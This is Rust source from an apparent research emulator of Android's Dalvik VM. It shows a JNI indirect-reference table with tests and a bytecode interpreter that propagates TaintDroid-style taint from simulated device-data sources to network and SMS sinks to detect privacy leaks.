    /// # Errors
    ///
    /// [`DvmError::BadIndirectRef`] for null, malformed, stale, or
    /// deleted references.
    pub fn decode(&self, r: IndirectRef) -> Result<ObjectId, DvmError> {
        let kind = r.kind().ok_or(DvmError::BadIndirectRef(r.0))?;
        let index = ((r.0 >> 2) & 0x3FFFF) as usize;
        let serial = r.0 >> 20;
        let table = match kind {
            IndirectRefKind::Local => &self.locals,
            IndirectRefKind::Global => &self.globals,
        };
        match table.get(index).and_then(|e| e.as_ref()) {
            Some(entry) if entry.serial & 0xFFF == serial => Ok(entry.obj),
            _ => Err(DvmError::BadIndirectRef(r.0)),
        }
    }

    /// Removes a reference (JNI `DeleteLocalRef`/`DeleteGlobalRef`).
    ///
    /// # Errors
    ///
    /// [`DvmError::BadIndirectRef`] if the reference does not resolve.
    pub fn delete(&mut self, r: IndirectRef) -> Result<(), DvmError> {
        let obj = self.decode(r)?;
        let kind = r.kind().expect("validated by decode");
        let index = ((r.0 >> 2) & 0x3FFFF) as usize;
        let table = self.table(kind);
        debug_assert_eq!(table[index].as_ref().map(|e| e.obj), Some(obj));
        table[index] = None;
        Ok(())
    }

    /// Every object currently referenced (GC roots from native code).
    pub fn all_objects(&self) -> Vec<ObjectId> {
        self.locals
            .iter()
            .chain(self.globals.iter())
            .flatten()
            .map(|e| e.obj)
            .collect()
    }

    /// Number of live references.
    pub fn len(&self) -> usize {
        self.locals.iter().flatten().count() + self.globals.iter().flatten().count()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn add_decode_roundtrip() {
        let mut t = IndirectRefTable::new();
        let r = t.add(IndirectRefKind::Local, ObjectId(7));
        assert_eq!(r.kind(), Some(IndirectRefKind::Local));
        assert_eq!(t.decode(r).unwrap(), ObjectId(7));
        assert!(!r.is_null());
    }

    #[test]
    fn global_and_local_are_distinct() {
        let mut t = IndirectRefTable::new();
        let l = t.add(IndirectRefKind::Local, ObjectId(1));
        let g = t.add(IndirectRefKind::Global, ObjectId(2));
        assert_ne!(l, g);
        assert_eq!(t.decode(l).unwrap(), ObjectId(1));
        assert_eq!(t.decode(g).unwrap(), ObjectId(2));
        assert_eq!(t.len(), 2);
    }

    #[test]
    fn delete_invalidates() {
        let mut t = IndirectRefTable::new();
        let r = t.add(IndirectRefKind::Local, ObjectId(5));
        t.delete(r).unwrap();
        assert!(matches!(t.decode(r), Err(DvmError::BadIndirectRef(_))));
        assert!(t.is_empty());
    }

    #[test]
    fn stale_serial_rejected() {
        let mut t = IndirectRefTable::new();
        let r1 = t.add(IndirectRefKind::Local, ObjectId(5));
        t.delete(r1).unwrap();
        // Slot reused with a new serial: old reference must not resolve.
        let r2 = t.add(IndirectRefKind::Local, ObjectId(9));
        assert_ne!(r1, r2);
        assert!(t.decode(r1).is_err());
        assert_eq!(t.decode(r2).unwrap(), ObjectId(9));
    }

    #[test]
    fn null_and_malformed_rejected() {
        let t = IndirectRefTable::new();
        assert!(t.decode(IndirectRef::NULL).is_err());
        assert!(t.decode(IndirectRef(0x1234_5670)).is_err()); // kind bits 00
        assert!(IndirectRef::NULL.is_null());
    }

    #[test]
    fn roots_enumerated() {
        let mut t = IndirectRefTable::new();
        t.add(IndirectRefKind::Local, ObjectId(1));
        t.add(IndirectRefKind::Global, ObjectId(2));
        let mut roots = t.all_objects();
        roots.sort();
        assert_eq!(roots, vec![ObjectId(1), ObjectId(2)]);
    }

    #[test]
    fn reference_values_look_like_androids() {
        let mut t = IndirectRefTable::new();
        let r = t.add(IndirectRefKind::Local, ObjectId(0));
        // Kind tag in the low bits, serial in the high bits.
        assert_eq!(r.0 & 0x3, 0x1);
        assert!(r.0 >> 20 != 0, "serial occupies high bits: {r}");
    }
}
