//! The bytecode interpreter with TaintDroid's taint-propagation rules.
//!
//! "TaintDroid tracks the taints of primitive type variables and object
//! references according to the logic of each DVM instruction. When a
//! native method is called, TaintDroid adopts the taint propagation
//! policy that the return value will be tainted if any parameter is
//! tainted." (§II-B) — that conservative JNI policy is implemented
//! verbatim in [`Dvm::invoke_with`]; the [`NativeHandler`] (NDroid's
//! call bridge, or a no-op for the TaintDroid-only baseline) may union
//! in a more precise native-side taint on top.

use crate::bytecode::DexInsn;
use crate::class::{MethodId, MethodKind, Program};
use crate::error::DvmError;
use crate::framework::{DeviceProfile, Intrinsic};
use crate::heap::{Heap, ObjectId};
use crate::indirect::IndirectRefTable;
use crate::object::HeapObject;
use crate::stack::DvmStack;
use crate::taint::Taint;

/// Where a sink fired.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SinkContext {
    /// A Java-context sink (TaintDroid's territory).
    Java,
    /// A native-context sink (NDroid's territory; recorded by the
    /// system-lib hook engine).
    Native,
}

/// A sink invocation observed during execution. It is a *leak* when
/// [`LeakEvent::taint`] is non-clear.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LeakEvent {
    /// Sink identifier, e.g. `"Socket.send"` or `"sendto"`.
    pub sink: String,
    /// Destination (server, file path, phone number…).
    pub dest: String,
    /// The transmitted data.
    pub data: String,
    /// Taint carried by the data at the sink.
    pub taint: Taint,
    /// Which context the sink is in.
    pub context: SinkContext,
}

impl LeakEvent {
    /// Whether this sink call actually carried sensitive data.
    pub fn is_leak(&self) -> bool {
        self.taint.is_tainted()
    }
}

/// Callback used by the interpreter to run JNI native methods.
///
/// NDroid's call bridge implements this (hooking
/// `dvmCallJNIMethod`, creating a `SourcePolicy`, running the ARM code
/// and tracking taint); the TaintDroid-only baseline implements it by
/// executing native code with **no** taint tracking.
pub trait NativeHandler {
    /// Executes native `method` with the given argument registers and
    /// their taints; returns the return value and the *native-tracked*
    /// return taint (CLEAR when the handler does not track).
    ///
    /// # Errors
    ///
    /// Propagates guest execution failures.
    fn call_native(
        &mut self,
        dvm: &mut Dvm,
        method: MethodId,
        args: &[u32],
        taints: &[Taint],
    ) -> Result<(u32, Taint), DvmError>;
}

/// A [`NativeHandler`] that fails on any native call; useful for
/// pure-Java tests.
#[derive(Debug, Default, Clone, Copy)]
pub struct NoNatives;

impl NativeHandler for NoNatives {
    fn call_native(
        &mut self,
        dvm: &mut Dvm,
        method: MethodId,
        _args: &[u32],
        _taints: &[Taint],
    ) -> Result<(u32, Taint), DvmError> {
        Err(DvmError::NotInterpretable(
            dvm.program.method(method).name.clone(),
        ))
    }
}

/// How a method invocation ended.
enum Outcome {
    Return(u32, Taint),
    Thrown(ObjectId),
}

/// The virtual machine: program, heap, indirect references, the
/// TaintDroid stack, and the thread's `InterpSaveState`
/// (`ret_val`/`ret_taint`).
#[derive(Debug, Clone)]
pub struct Dvm {
    /// The loaded program (classes, methods, statics, string pool).
    pub program: Program,
    /// The managed heap.
    pub heap: Heap,
    /// Indirect references handed to native code.
    pub refs: IndirectRefTable,
    /// The TaintDroid-modified interpreter stack.
    pub stack: DvmStack,
    /// `InterpSaveState.retval`.
    pub ret_val: u32,
    /// `InterpSaveState` return-value taint (TaintDroid stores the
    /// return taint here when a method returns, §II-B).
    pub ret_taint: Taint,
    /// Sink invocations (Java context) observed so far.
    pub events: Vec<LeakEvent>,
    /// The simulated device identity for framework sources.
    pub device: DeviceProfile,
    /// Remaining bytecode budget (guards against runaway guests).
    pub fuel: u64,
    /// Total bytecode instructions interpreted.
    pub bytecode_executed: u64,
    /// Whether TaintDroid's DVM-level tracking is active (`false`
    /// models a vanilla, unmodified DVM for overhead baselines).
    pub taint_tracking: bool,
    /// The exception in flight, if any (set by `throw` or JNI
    /// `ThrowNew`).
    pub pending_exception: Option<ObjectId>,
    /// Modeled per-bytecode analysis work (iterations of dummy shadow
    /// work per interpreted instruction). 0 for TaintDroid/NDroid —
    /// they track Java taint inside the modified DVM at near-native
    /// cost; non-zero for the DroidScope-like baseline, which analyzes
    /// every machine instruction of the interpreter itself.
    pub per_insn_tax: u32,
    /// Provenance recorder shared with the native shadow state and
    /// kernel (defaults to `Level::Off`: nothing recorded).
    pub prov: ndroid_provenance::Handle,
}

impl Dvm {
    /// A VM for `program` with default device profile and fuel.
    pub fn new(program: Program) -> Dvm {
        Dvm {
            program,
            heap: Heap::new(),
            refs: IndirectRefTable::new(),
            stack: DvmStack::new(),
            ret_val: 0,
            ret_taint: Taint::CLEAR,
            events: Vec::new(),
            device: DeviceProfile::default(),
            fuel: 50_000_000,
            bytecode_executed: 0,
            taint_tracking: true,
            pending_exception: None,
            per_insn_tax: 0,
            prov: ndroid_provenance::Handle::default(),
        }
    }

    /// Encodes an object id as a register reference value.
    pub fn ref_value(id: ObjectId) -> u32 {
        id.0 + 1
    }

    /// Decodes a register reference value (`None` for null).
    pub fn obj_id(value: u32) -> Option<ObjectId> {
        value.checked_sub(1).map(ObjectId)
    }

    /// Decodes a non-null register reference value.
    ///
    /// # Errors
    ///
    /// [`DvmError::NotAReference`] for null.
    pub fn expect_obj(value: u32) -> Result<ObjectId, DvmError> {
        Dvm::obj_id(value).ok_or(DvmError::NotAReference { value })
    }

    /// Allocates a string object, returning its register value.
    pub fn new_string(&mut self, s: impl Into<String>, taint: Taint) -> u32 {
        Dvm::ref_value(self.heap.alloc_string(s, taint))
    }

    /// The string contents and object taint behind a register value.
    ///
    /// # Errors
    ///
    /// [`DvmError::NotAReference`] / [`DvmError::WrongObjectKind`].
    pub fn string_at(&self, value: u32) -> Result<(&str, Taint), DvmError> {
        let id = Dvm::expect_obj(value)?;
        self.heap.string(id)
    }

    /// Runs a moving-GC cycle (all direct object addresses change).
    pub fn gc(&mut self) {
        self.heap.compact();
    }

    /// The Java-context leaks recorded so far (tainted sink hits).
    pub fn leaks(&self) -> impl Iterator<Item = &LeakEvent> {
        self.events.iter().filter(|e| e.is_leak())
    }

    /// Invokes `class.method` by name. See [`invoke_with`](Dvm::invoke_with).
    ///
    /// # Errors
    ///
    /// Lookup failures plus anything `invoke_with` raises.
    pub fn invoke_by_name(
        &mut self,
        class: &str,
        method: &str,
        args: &[(u32, Taint)],
        handler: &mut dyn NativeHandler,
    ) -> Result<(u32, Taint), DvmError> {
        let m = self.program.find_method_by_name(class, method)?;
        self.invoke_with(m, args, handler)
    }

    /// Invokes a method with `(value, taint)` arguments, dispatching
    /// JNI natives to `handler`.
    ///
    /// # Errors
    ///
    /// [`DvmError::UncaughtException`] if an exception escapes, plus
    /// interpreter failures.
    pub fn invoke_with(
        &mut self,
        method: MethodId,
        args: &[(u32, Taint)],
        handler: &mut dyn NativeHandler,
    ) -> Result<(u32, Taint), DvmError> {
        match self.invoke_inner(method, args, handler)? {
            Outcome::Return(v, t) => Ok((v, t)),
            Outcome::Thrown(obj) => {
                let msg = self.exception_message(obj);
                Err(DvmError::UncaughtException(msg))
            }
        }
    }

    fn exception_message(&self, obj: ObjectId) -> String {
        match self.heap.get(obj) {
            Ok(HeapObject::Exception {
                class_name,
                message,
            }) => {
                let text = Dvm::obj_id(*message)
                    .and_then(|m| self.heap.string(m).ok())
                    .map(|(s, _)| s.to_string())
                    .unwrap_or_default();
                format!("{class_name}: {text}")
            }
            _ => "unknown exception".to_string(),
        }
    }

    fn invoke_inner(
        &mut self,
        method: MethodId,
        args: &[(u32, Taint)],
        handler: &mut dyn NativeHandler,
    ) -> Result<Outcome, DvmError> {
        let def = self.program.method(method);
        match def.kind.clone() {
            MethodKind::Intrinsic(which) => {
                let (v, t) = self.run_intrinsic(which, args)?;
                if let Some(obj) = self.pending_exception.take() {
                    return Ok(Outcome::Thrown(obj));
                }
                Ok(Outcome::Return(v, t))
            }
            MethodKind::Native { .. } => {
                let values: Vec<u32> = args.iter().map(|(v, _)| *v).collect();
                let taints: Vec<Taint> = args.iter().map(|(_, t)| *t).collect();
                let (ret, native_taint) = handler.call_native(self, method, &values, &taints)?;
                // TaintDroid's JNI policy: return tainted iff any
                // parameter was tainted ("set by JNI Call Bridge").
                let policy_taint = if self.taint_tracking {
                    taints.iter().fold(Taint::CLEAR, |acc, t| acc.union(*t))
                } else {
                    Taint::CLEAR
                };
                if let Some(obj) = self.pending_exception.take() {
                    return Ok(Outcome::Thrown(obj));
                }
                Ok(Outcome::Return(ret, policy_taint | native_taint))
            }
            MethodKind::Bytecode(code) => self.run_bytecode(method, &code, args, handler),
        }
    }

    #[allow(clippy::too_many_lines)]
    fn run_bytecode(
        &mut self,
        method: MethodId,
        code: &[DexInsn],
        args: &[(u32, Taint)],
        handler: &mut dyn NativeHandler,
    ) -> Result<Outcome, DvmError> {
        let (registers_size, catch_all) = {
            let def = self.program.method(method);
            (def.registers_size, def.catch_all)
        };
        self.stack.push_frame(method, registers_size, args)?;
        let track = self.taint_tracking;
        let mut pc: usize = 0;
        // Ensure the frame is popped on every exit path.
        let result = (|| -> Result<Outcome, DvmError> {
            loop {
                if self.fuel == 0 {
                    return Err(DvmError::OutOfFuel);
                }
                self.fuel -= 1;
                self.bytecode_executed += 1;
                if self.per_insn_tax > 0 {
                    let mut acc = 0u64;
                    for i in 0..self.per_insn_tax {
                        acc = acc.wrapping_mul(6364136223846793005).wrapping_add(i as u64);
                    }
                    std::hint::black_box(acc);
                }
                let insn = code
                    .get(pc)
                    .ok_or(DvmError::BadBranchTarget(pc as i32))?
                    .clone();
                pc += 1;
                match insn {
                    DexInsn::Const { dst, value } => {
                        self.stack.set(dst, value, Taint::CLEAR)?;
                    }
                    DexInsn::ConstString { dst, index } => {
                        let s = self
                            .program
                            .strings
                            .get(index as usize)
                            .cloned()
                            .unwrap_or_default();
                        let v = self.new_string(s, Taint::CLEAR);
                        self.stack.set(dst, v, Taint::CLEAR)?;
                    }
                    DexInsn::Move { dst, src } => {
                        let v = self.stack.reg(src)?;
                        let t = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        self.stack.set(dst, v, t)?;
                    }
                    DexInsn::MoveResult { dst } => {
                        let (v, t) = (self.ret_val, self.ret_taint);
                        self.stack.set(dst, v, if track { t } else { Taint::CLEAR })?;
                    }
                    DexInsn::BinOp { op, dst, a, b } => {
                        let va = self.stack.reg(a)?;
                        let vb = self.stack.reg(b)?;
                        let taint = if track {
                            self.stack.taint(a)?.union(self.stack.taint(b)?)
                        } else {
                            Taint::CLEAR
                        };
                        match op.apply(va, vb) {
                            Some(v) => self.stack.set(dst, v, taint)?,
                            None => {
                                let exc = self.throw_new(
                                    "Ljava/lang/ArithmeticException;",
                                    "divide by zero",
                                    Taint::CLEAR,
                                );
                                match self.dispatch_exception(exc, catch_all, &mut pc) {
                                    Some(outcome) => return Ok(outcome),
                                    None => continue,
                                }
                            }
                        }
                    }
                    DexInsn::BinOpLit { op, dst, a, lit } => {
                        let va = self.stack.reg(a)?;
                        let taint = if track { self.stack.taint(a)? } else { Taint::CLEAR };
                        match op.apply(va, lit) {
                            Some(v) => self.stack.set(dst, v, taint)?,
                            None => {
                                let exc = self.throw_new(
                                    "Ljava/lang/ArithmeticException;",
                                    "divide by zero",
                                    Taint::CLEAR,
                                );
                                match self.dispatch_exception(exc, catch_all, &mut pc) {
                                    Some(outcome) => return Ok(outcome),
                                    None => continue,
                                }
                            }
                        }
                    }
                    DexInsn::Neg { dst, src } => {
                        let v = self.stack.reg(src)?;
                        let t = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        self.stack.set(dst, (v as i32).wrapping_neg() as u32, t)?;
                    }
                    DexInsn::IfTest { op, a, b, target } => {
                        if op.test(self.stack.reg(a)?, self.stack.reg(b)?) {
                            pc = self.branch_target(code, target)?;
                        }
                    }
                    DexInsn::IfTestZ { op, a, target } => {
                        if op.test(self.stack.reg(a)?, 0) {
                            pc = self.branch_target(code, target)?;
                        }
                    }
                    DexInsn::Goto { target } => {
                        pc = self.branch_target(code, target)?;
                    }
                    DexInsn::NewInstance { dst, class } => {
                        let nfields = self.program.class(class).instance_fields.len();
                        let id = self.heap.alloc(HeapObject::Instance {
                            class,
                            fields: vec![0; nfields],
                            taints: vec![Taint::CLEAR; nfields],
                        });
                        self.stack.set(dst, Dvm::ref_value(id), Taint::CLEAR)?;
                    }
                    DexInsn::NewArray { dst, size, kind } => {
                        let n = self.stack.reg(size)? as usize;
                        let id = self.heap.alloc(HeapObject::Array {
                            kind,
                            data: vec![0; n],
                            taint: Taint::CLEAR,
                        });
                        self.stack.set(dst, Dvm::ref_value(id), Taint::CLEAR)?;
                    }
                    DexInsn::ArrayLength { dst, arr } => {
                        let id = Dvm::expect_obj(self.stack.reg(arr)?)?;
                        let len = match self.heap.get(id)? {
                            HeapObject::Array { data, .. } => data.len() as u32,
                            HeapObject::String { value, .. } => value.len() as u32,
                            _ => return Err(DvmError::WrongObjectKind { expected: "Array" }),
                        };
                        let t = if track { self.stack.taint(arr)? } else { Taint::CLEAR };
                        self.stack.set(dst, len, t)?;
                    }
                    DexInsn::ArrayGet { dst, arr, idx } => {
                        let id = Dvm::expect_obj(self.stack.reg(arr)?)?;
                        let i = self.stack.reg(idx)?;
                        let (value, arr_taint) = match self.heap.get(id)? {
                            HeapObject::Array { data, taint, .. } => {
                                let v = *data.get(i as usize).ok_or(
                                    DvmError::IndexOutOfBounds {
                                        index: i,
                                        len: data.len() as u32,
                                    },
                                )?;
                                (v, *taint)
                            }
                            _ => return Err(DvmError::WrongObjectKind { expected: "Array" }),
                        };
                        // TaintDroid: aget taints dst with the array's
                        // single label, unioned with the index taint.
                        let t = if track {
                            arr_taint.union(self.stack.taint(idx)?)
                        } else {
                            Taint::CLEAR
                        };
                        self.stack.set(dst, value, t)?;
                    }
                    DexInsn::ArrayPut { src, arr, idx } => {
                        let id = Dvm::expect_obj(self.stack.reg(arr)?)?;
                        let i = self.stack.reg(idx)?;
                        let v = self.stack.reg(src)?;
                        let st = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        match self.heap.get_mut(id)? {
                            HeapObject::Array { data, taint, .. } => {
                                let len = data.len() as u32;
                                let slot = data.get_mut(i as usize).ok_or(
                                    DvmError::IndexOutOfBounds { index: i, len },
                                )?;
                                *slot = v;
                                *taint |= st;
                            }
                            _ => return Err(DvmError::WrongObjectKind { expected: "Array" }),
                        }
                    }
                    DexInsn::IGet { dst, obj, field } => {
                        let id = Dvm::expect_obj(self.stack.reg(obj)?)?;
                        let (v, t) = match self.heap.get(id)? {
                            HeapObject::Instance { fields, taints, .. } => {
                                let v = *fields
                                    .get(field as usize)
                                    .ok_or(DvmError::BadFieldIndex(field as u32))?;
                                (v, taints[field as usize])
                            }
                            _ => return Err(DvmError::WrongObjectKind { expected: "Object" }),
                        };
                        self.stack
                            .set(dst, v, if track { t } else { Taint::CLEAR })?;
                    }
                    DexInsn::IPut { src, obj, field } => {
                        let id = Dvm::expect_obj(self.stack.reg(obj)?)?;
                        let v = self.stack.reg(src)?;
                        let t = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        match self.heap.get_mut(id)? {
                            HeapObject::Instance { fields, taints, .. } => {
                                let slot = fields
                                    .get_mut(field as usize)
                                    .ok_or(DvmError::BadFieldIndex(field as u32))?;
                                *slot = v;
                                taints[field as usize] = t;
                            }
                            _ => return Err(DvmError::WrongObjectKind { expected: "Object" }),
                        }
                    }
                    DexInsn::SGet { dst, class, field } => {
                        let (v, t) = *self.program.statics[class.0 as usize]
                            .get(field as usize)
                            .ok_or(DvmError::BadFieldIndex(field as u32))?;
                        self.stack
                            .set(dst, v, if track { t } else { Taint::CLEAR })?;
                    }
                    DexInsn::SPut { src, class, field } => {
                        let v = self.stack.reg(src)?;
                        let t = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        let slot = self.program.statics[class.0 as usize]
                            .get_mut(field as usize)
                            .ok_or(DvmError::BadFieldIndex(field as u32))?;
                        *slot = (v, t);
                    }
                    DexInsn::Invoke {
                        kind: _,
                        method: callee,
                        args: arg_regs,
                    } => {
                        let mut call_args = Vec::with_capacity(arg_regs.len());
                        for r in &arg_regs {
                            call_args.push((self.stack.reg(*r)?, self.stack.taint(*r)?));
                        }
                        match self.invoke_inner(callee, &call_args, handler)? {
                            Outcome::Return(v, t) => {
                                self.ret_val = v;
                                self.ret_taint = if track { t } else { Taint::CLEAR };
                            }
                            Outcome::Thrown(exc) => {
                                match self.dispatch_exception(exc, catch_all, &mut pc) {
                                    Some(outcome) => return Ok(outcome),
                                    None => continue,
                                }
                            }
                        }
                    }
                    DexInsn::Return { src } => {
                        let v = self.stack.reg(src)?;
                        let t = if track { self.stack.taint(src)? } else { Taint::CLEAR };
                        return Ok(Outcome::Return(v, t));
                    }
                    DexInsn::ReturnVoid => {
                        return Ok(Outcome::Return(0, Taint::CLEAR));
                    }
                    DexInsn::Throw { src } => {
                        let exc = Dvm::expect_obj(self.stack.reg(src)?)?;
                        match self.dispatch_exception(exc, catch_all, &mut pc) {
                            Some(outcome) => return Ok(outcome),
                            None => continue,
                        }
                    }
                    DexInsn::MoveException { dst } => {
                        let exc = self
                            .pending_exception
                            .take()
                            .ok_or(DvmError::NotInterpretable("move-exception".into()))?;
                        // The reference's taint mirrors the carried
                        // message's object taint so sinks see it.
                        let t = if track {
                            match self.heap.get(exc)? {
                                HeapObject::Exception { message, .. } => Dvm::obj_id(*message)
                                    .and_then(|m| self.heap.get(m).ok())
                                    .map(HeapObject::overall_taint)
                                    .unwrap_or(Taint::CLEAR),
                                _ => Taint::CLEAR,
                            }
                        } else {
                            Taint::CLEAR
                        };
                        self.stack.set(dst, Dvm::ref_value(exc), t)?;
                    }
                }
            }
        })();
        self.stack.pop_frame();
        result
    }

    fn branch_target(&self, code: &[DexInsn], target: u32) -> Result<usize, DvmError> {
        if (target as usize) < code.len() {
            Ok(target as usize)
        } else {
            Err(DvmError::BadBranchTarget(target as i32))
        }
    }

    /// Creates an exception object (used by `throw` paths and by the
    /// JNI `ThrowNew` hook). The message string gets `taint`.
    pub fn throw_new(&mut self, class_name: &str, message: &str, taint: Taint) -> ObjectId {
        let msg = self.heap.alloc_string(message, taint);
        self.heap.alloc(HeapObject::Exception {
            class_name: class_name.to_string(),
            message: Dvm::ref_value(msg),
        })
    }

    /// Routes a thrown exception: either jumps to the frame's catch-all
    /// handler (returns `None`, with `pc` updated and the exception
    /// pending for `move-exception`) or unwinds (returns the outcome).
    fn dispatch_exception(
        &mut self,
        exc: ObjectId,
        catch_all: Option<u32>,
        pc: &mut usize,
    ) -> Option<Outcome> {
        match catch_all {
            Some(handler_pc) => {
                self.pending_exception = Some(exc);
                *pc = handler_pc as usize;
                None
            }
            None => Some(Outcome::Thrown(exc)),
        }
    }

    #[allow(clippy::too_many_lines)]
    fn run_intrinsic(
        &mut self,
        which: Intrinsic,
        args: &[(u32, Taint)],
    ) -> Result<(u32, Taint), DvmError> {
        let track = self.taint_tracking;
        let tainted_string = |dvm: &mut Dvm, s: String, t: Taint, api: &str| {
            let t = if track { t } else { Taint::CLEAR };
            if t.is_tainted() && dvm.prov.is_on() {
                dvm.prov.emit(ndroid_provenance::ProvEvent::Source {
                    label: t.0,
                    api: api.to_string(),
                });
            }
            let v = dvm.new_string(s, t);
            Ok((v, t))
        };
        match which {
            Intrinsic::GetDeviceId => {
                let s = self.device.device_id.clone();
                tainted_string(self, s, Taint::IMEI, "TelephonyManager.getDeviceId")
            }
            Intrinsic::GetSubscriberId => {
                let s = self.device.subscriber_id.clone();
                tainted_string(self, s, Taint::IMSI, "TelephonyManager.getSubscriberId")
            }
            Intrinsic::GetLine1Number => {
                let s = self.device.line1_number.clone();
                tainted_string(self, s, Taint::PHONE_NUMBER, "TelephonyManager.getLine1Number")
            }
            Intrinsic::GetSimSerialNumber => {
                let s = self.device.sim_serial.clone();
                tainted_string(self, s, Taint::ICCID, "TelephonyManager.getSimSerialNumber")
            }
            Intrinsic::GetNetworkOperator => {
                let s = self.device.network_operator.clone();
                tainted_string(self, s, Taint::IMSI, "TelephonyManager.getNetworkOperator")
            }
            Intrinsic::QueryContactId => {
                let s = self.device.contact.0.clone();
                tainted_string(self, s, Taint::CONTACTS, "ContactsProvider.query(id)")
            }
            Intrinsic::QueryContactName => {
                let s = self.device.contact.1.clone();
                tainted_string(self, s, Taint::CONTACTS, "ContactsProvider.query(name)")
            }
            Intrinsic::QueryContactEmail => {
                let s = self.device.contact.2.clone();
                tainted_string(self, s, Taint::CONTACTS, "ContactsProvider.query(email)")
            }
            Intrinsic::QueryLastSms => {
                let s = self.device.last_sms.clone();
                tainted_string(self, s, Taint::SMS, "SmsProvider.query")
            }
            Intrinsic::GetLastKnownLocation => {
                let s = self.device.location.clone();
                tainted_string(self, s, Taint::LOCATION_LAST, "LocationManager.getLastKnownLocation")
            }
            Intrinsic::GetAccountName => {
                let s = self.device.account.clone();
                tainted_string(self, s, Taint::ACCOUNT, "AccountManager.getAccounts")
            }
            Intrinsic::NetworkSend | Intrinsic::SmsSend => {
                let (dest_v, _) = args.first().copied().unwrap_or_default();
                let (data_v, data_reg_taint) = args.get(1).copied().unwrap_or_default();
                let dest = self
                    .string_at(dest_v)
                    .map(|(s, _)| s.to_string())
                    .unwrap_or_default();
                let (data, obj_taint) = self
                    .string_at(data_v)
                    .map(|(s, t)| (s.to_string(), t))
                    .unwrap_or_default();
                let taint = if track {
                    data_reg_taint | obj_taint
                } else {
                    Taint::CLEAR
                };
                let sink = if which == Intrinsic::NetworkSend {
                    "Socket.send"
                } else {
                    "SmsManager.sendTextMessage"
                };
                if self.prov.is_on() {
                    self.prov.emit(ndroid_provenance::ProvEvent::Sink {
                        sink: sink.to_string(),
                        dest: dest.clone(),
                        label: taint.0,
                        ctx: ndroid_provenance::SinkCtx::Java,
                    });
                }
                self.events.push(LeakEvent {
                    sink: sink.to_string(),
                    dest,
                    data,
                    taint,
                    context: SinkContext::Java,
                });
                Ok((0, Taint::CLEAR))
            }
            Intrinsic::HttpPost => {
                let (url_v, url_reg_taint) = args.first().copied().unwrap_or_default();
                let (url, obj_taint) = self
                    .string_at(url_v)
                    .map(|(s, t)| (s.to_string(), t))
                    .unwrap_or_default();
                let dest = url
                    .trim_start_matches("http://")
                    .trim_start_matches("https://")
                    .split('/')
                    .next()
                    .unwrap_or("")
                    .to_string();
                let taint = if track {
                    url_reg_taint | obj_taint
                } else {
                    Taint::CLEAR
                };
                if self.prov.is_on() {
                    self.prov.emit(ndroid_provenance::ProvEvent::Sink {
                        sink: "HttpClient.post".to_string(),
                        dest: dest.clone(),
                        label: taint.0,
                        ctx: ndroid_provenance::SinkCtx::Java,
                    });
                }
                self.events.push(LeakEvent {
                    sink: "HttpClient.post".to_string(),
                    dest,
                    data: url,
                    taint,
                    context: SinkContext::Java,
                });
                Ok((0, Taint::CLEAR))
            }
            Intrinsic::LogDebug => Ok((0, Taint::CLEAR)),
            Intrinsic::StringConcat => {
                let (a_v, a_t) = args.first().copied().unwrap_or_default();
                let (b_v, b_t) = args.get(1).copied().unwrap_or_default();
                let (a, at) = self
                    .string_at(a_v)
                    .map(|(s, t)| (s.to_string(), t))
                    .unwrap_or_default();
                let (b, bt) = self
                    .string_at(b_v)
                    .map(|(s, t)| (s.to_string(), t))
                    .unwrap_or_default();
                let taint = if track { a_t | b_t | at | bt } else { Taint::CLEAR };
                let v = self.new_string(format!("{a}{b}"), taint);
                Ok((v, taint))
            }
            Intrinsic::StringLength => {
                let (s_v, s_t) = args.first().copied().unwrap_or_default();
                let (s, ot) = self.string_at(s_v)?;
                let len = s.len() as u32;
                let taint = if track { s_t | ot } else { Taint::CLEAR };
                Ok((len, taint))
            }
            Intrinsic::StringValueOf => {
                let (v, t) = args.first().copied().unwrap_or_default();
                let taint = if track { t } else { Taint::CLEAR };
                let s = self.new_string(format!("{}", v as i32), taint);
                Ok((s, taint))
            }
            Intrinsic::ThrowableGetMessage => {
                let (exc_v, _) = args.first().copied().unwrap_or_default();
                let id = Dvm::expect_obj(exc_v)?;
                match self.heap.get(id)? {
                    HeapObject::Exception { message, .. } => {
                        let msg = *message;
                        let taint = if track {
                            Dvm::obj_id(msg)
                                .and_then(|m| self.heap.get(m).ok())
                                .map(HeapObject::overall_taint)
                                .unwrap_or(Taint::CLEAR)
                        } else {
                            Taint::CLEAR
                        };
                        Ok((msg, taint))
                    }
                    _ => Err(DvmError::WrongObjectKind {
                        expected: "Exception",
                    }),
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bytecode::{BinOp, CmpOp, InvokeKind};
    use crate::class::{ClassDef, MethodDef};
    use crate::framework::install_framework;
    use crate::object::ArrayKind;

    fn vm_with(classes: impl FnOnce(&mut Program)) -> Dvm {
        let mut p = Program::new();
        install_framework(&mut p);
        classes(&mut p);
        Dvm::new(p)
    }

    fn main_class(p: &mut Program, code: Vec<DexInsn>, regs: u16, ins: u16) -> MethodId {
        let c = p.add_class(ClassDef {
            name: "Lapp/Main;".into(),
            ..ClassDef::default()
        });
        p.add_method(
            c,
            MethodDef::new("main", "I", MethodKind::Bytecode(code))
                .with_registers(regs.max(ins)),
        )
    }

    #[test]
    fn arithmetic_and_return() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::Const { dst: 0, value: 6 },
                    DexInsn::Const { dst: 1, value: 7 },
                    DexInsn::BinOp {
                        op: BinOp::Mul,
                        dst: 2,
                        a: 0,
                        b: 1,
                    },
                    DexInsn::Return { src: 2 },
                ],
                3,
                0,
            );
        });
        let (v, t) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
        assert_eq!(v, 42);
        assert!(t.is_clear());
        assert!(dvm.bytecode_executed >= 4);
    }

    #[test]
    fn loop_until_condition() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::Const { dst: 0, value: 0 },  // sum
                    DexInsn::Const { dst: 1, value: 10 }, // counter
                    // 2: loop head
                    DexInsn::BinOp {
